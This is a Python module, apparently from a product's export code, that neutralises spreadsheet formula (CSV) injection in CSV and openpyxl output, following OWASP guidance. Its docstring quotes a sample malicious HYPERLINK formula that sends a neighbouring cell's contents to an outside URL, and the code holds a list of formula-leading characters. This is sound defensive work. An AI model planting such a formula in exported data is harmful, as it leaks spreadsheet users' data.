"""Spreadsheet safety: text that a spreadsheet program would run as a formula is neutralised.

Excel, LibreOffice Calc and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (a tab or carriage return in front is skipped by some of them), so a measure
titled ``=HYPERLINK("http://…?x="&A1,"klick")`` would become a live link that sends the
neighbouring cell away ("CSV injection", OWASP). Following the OWASP guidance, such *text* is
prefixed with a single quote ``'``; numbers, dates and booleans are values, never formulas, and
pass unchanged — a negative amount stays the number -12.5.

That prefix is needed only where the program guesses the type from the text, that is in CSV
(:func:`safe_cell`). A workbook cell has a stored type: a cell written as a string is shown as
that string and never run, whatever it starts with. So workbooks keep the text unchanged and
only make sure it is stored as a string (:func:`text_cell`, :func:`append_row`): openpyxl would
otherwise store text that starts with ``=`` as a formula and ``#N/A`` as an error value.

Every CSV the product writes goes through :func:`safe_cell`, every workbook through
:func:`text_cell`/:func:`append_row` (open data, report workbooks, later exports). Pure Python:
every app may import it.
"""

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """The text, with a leading ``'`` if a spreadsheet program could read it as a formula."""
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def safe_cell(value):
    """A cell value for a spreadsheet or CSV: text is neutralised, anything else is unchanged."""
    return safe_text(value) if isinstance(value, str) else value


def text_cell(cell):
    """The openpyxl cell, with text stored as a string: never a formula or an error value."""
    if isinstance(cell.value, str) and cell.data_type in ("f", "e"):
        cell.data_type = "s"
    return cell


def append_row(sheet, values):
    """``sheet.append(values)`` with every text stored as a string (see :func:`text_cell`)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        text_cell(cell)
